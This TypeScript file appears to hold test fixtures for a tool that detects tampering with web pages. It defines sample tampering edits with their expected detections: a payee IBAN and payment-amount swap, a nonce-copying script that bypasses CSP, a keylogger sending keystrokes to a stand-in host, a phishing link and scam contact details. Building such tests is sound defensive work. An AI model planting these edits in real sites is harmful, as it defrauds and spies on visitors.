import { htmlEdit, type TamperKind } from './types.js';

// Careful tampering (issue 15.3): changes a rogue expects a comparator to overlook. Each copies
// the page's own CSP nonce where it adds script, as a careful rogue would, so that the change
// really runs in the visitor's browser.

function kind(k: Omit<TamperKind, 'category'>): TamperKind {
  return { ...k, category: 'tamper' };
}

const nonceOf = (html: string) => /nonce="([^"]+)"/.exec(html)?.[1] ?? '';
const rogueIban = 'GB29 NWBK 6016 1331 9268 19';

export const carefulKinds: TamperKind[] = [
  kind({
    name: 'hidden-field-swap',
    description: 'swaps the payee IBAN inside a hidden form field',
    samplePath: '/products',
    expect: ['attr_changed'],
    ...htmlEdit((h) => h.replace('name="payee" value="DE44 5001 0517 5407 3249 31"', `name="payee" value="${rogueIban}"`)),
  }),
  kind({
    name: 'input-value-swap',
    description: 'raises the prefilled amount of the payment form',
    samplePath: '/products',
    expect: ['attr_changed'],
    ...htmlEdit((h) => h.replace('name="amount" value="249.00"', 'name="amount" value="2490.00"')),
  }),
  kind({
    name: 'data-payload-swap',
    description: 'rewrites a data-* payload that the site script renders as text',
    samplePath: '/',
    expect: ['attr_changed'],
    expectRendered: ['rendered_text_changed', 'rendered_text_added', 'rendered_attr_changed', 'mutation_text_added', 'mutation_text_changed'],
    ...htmlEdit((h) => h.replace('data-message="Free delivery on orders over €100."', `data-message="New bank details: pay only to IBAN ${rogueIban}."`)),
  }),
  kind({
    name: 'delayed-dom-rewrite',
    description: 'an inline script (with the page nonce) that swaps the IBAN 5 s after load',
    samplePath: '/products',
    expect: ['script_added'],
    expectRendered: ['rendered_text_changed', 'mutation_text_added', 'mutation_text_changed'],
    ...htmlEdit((h) => h.replace('</body>', `<script nonce="${nonceOf(h)}">setTimeout(function(){document.querySelectorAll('.notice').forEach(function(e){e.textContent=e.textContent.replace(/DE44[0-9 ]+/,'${rogueIban}')})},5000);</script>\n</body>`)),
  }),
  kind({
    name: 'state-script-keylogger',
    description: 'appends a keylogger to the state script whose length varies on every fetch',
    samplePath: '/',
    // At a place the origin is known to vary the script is bound to every value it put there: a new one is "added".
    expect: ['script_changed', 'script_added'],
    ...htmlEdit((h) => h.replace(/(window\.__state = [^<]*;)/, "$1document.addEventListener('keydown',function(e){(new Image).src='https://k.example-logger.com/k?'+e.key});")),
  }),
  kind({
    name: 'noscript-edit',
    description: 'puts a phishing link into the <noscript> content',
    samplePath: '/about',
    expect: ['noscript_changed'],
    ...htmlEdit((h) => h.replace('<noscript><p>Turn on JavaScript to see stock levels.</p></noscript>', '<noscript><p>Scripts are off: <a href="https://shop-help.example/login">sign in here</a> to continue.</p></noscript>')),
  }),
  kind({
    name: 'title-edit',
    description: 'changes the page <title> to an account warning',
    samplePath: '/',
    expect: ['text_changed'],
    ...htmlEdit((h) => h.replace(/<title>[^<]*<\/title>/, '<title>Account locked · verify your card now</title>')),
  }),
  kind({
    name: 'css-content-injection',
    description: 'adds a CSS content: rule showing a scam phone number after the notice',
    samplePath: '/',
    expect: ['style_changed'],
    ...htmlEdit((h) => h.replace('.js-badge { font-size: small; color: #555; }', '.js-badge { font-size: small; color: #555; } .notice::after { content: " Questions? Call +44 20 7946 0958."; }')),
  }),
];
